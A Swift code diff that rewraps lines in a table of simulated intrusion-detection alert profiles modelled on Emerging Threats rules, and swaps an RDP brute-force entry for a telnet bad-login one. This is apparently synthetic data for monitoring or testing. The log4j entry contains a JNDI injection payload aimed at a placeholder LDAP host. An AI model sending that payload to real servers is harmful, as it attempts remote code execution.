@@ -31,17 +31,22 @@ struct AttackProfile: Sendable {
 
     /// Names and ids in the manner of the Emerging Threats rules.
     static let all: [AttackProfile] = [
-        AttackProfile("scan", 2_001_219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, "TCP", ports: [22, 2222], weight: 16),
         AttackProfile(
-            "scan", 2_010_935, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2, "TCP", ports: [1433], weight: 12),
+            "scan", 2_001_219, "ET SCAN Potential SSH Scan", "Attempted Information Leak", 2, "TCP", ports: [22, 2222],
+            weight: 16),
+        AttackProfile(
+            "scan", 2_010_935, "ET SCAN Suspicious inbound to MSSQL port 1433", "Potentially Bad Traffic", 2, "TCP", ports: [1433],
+            weight: 12),
         AttackProfile("scan", 2_008_578, "ET SCAN Sipvicious Scan", "Attempted Information Leak", 2, "UDP", ports: [5060], weight: 8),
         AttackProfile(
-            "bruteforce", 2_001_329, "ET SCAN RDP Brute Force Attempt", "Attempted User Privilege Gain", 1, "TCP", ports: [3389], weight: 10),
+            "bruteforce", 2_101_251, "GPL TELNET Bad Login", "Potentially Bad Traffic", 2, "TCP", ports: [23, 2323], weight: 10),
         AttackProfile(
-            "exploit", 2_034_647, "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1, "TCP",
+            "exploit", 2_034_647, "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1,
+            "TCP",
             ports: [80, 443, 8080], paths: ["/?x=${jndi:ldap://192.0.2.66/a}", "/login"], weight: 6),
         AttackProfile(
-            "exploit", 2_024_218, "ET EXPLOIT Possible ETERNALBLUE MS17-010 Echo Request", "Attempted Administrator Privilege Gain", 1, "TCP",
+            "exploit", 2_024_218, "ET EXPLOIT Possible ETERNALBLUE MS17-010 Echo Request", "Attempted Administrator Privilege Gain", 1,
+            "TCP",
             ports: [445], weight: 8),
         AttackProfile(
             "web", 2_009_714, "ET WEB_SERVER SQL Injection Attempt UNION SELECT", "Web Application Attack", 1, "TCP", ports: [80, 443],
